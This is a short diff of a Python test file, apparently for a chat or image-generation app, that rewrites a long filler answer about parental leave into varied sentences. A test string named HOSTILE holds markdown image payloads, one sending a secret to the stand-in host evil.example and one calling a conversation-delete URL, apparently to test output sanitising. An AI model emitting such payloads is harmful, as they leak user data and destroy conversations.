@@ -20,7 +20,15 @@ from apps.engines.image.fake import FakePainter
 if TYPE_CHECKING:
     from PIL.Image import Image
 
-LONG = " ".join(f"This is sentence number {n} of a long answer about parental leave." for n in range(1, 60))
+_WHO = (
+    "The manager", "A parent", "The office", "Each colleague", "Somebody from payroll", "The works council", "A doctor",
+)  # fmt: skip
+_DOES = (
+    "writes a letter about parental leave", "asks how the weeks are counted", "keeps a copy of the form",
+    "talks about part time", "plans who stands in meanwhile", "reads the rules once more", "sends the papers back",
+    "looks up what is paid", "compares it with the contract", "answers a question of the team",
+)  # fmt: skip
+LONG = " ".join(f"{who} {does} in good time." for does in _DOES for who in _WHO)  # 70 sentences, none twice
 
 HOSTILE = """![stolen](https://evil.example/a.png?d=SECRET) and ![own](/conversations/?delete=1)
 
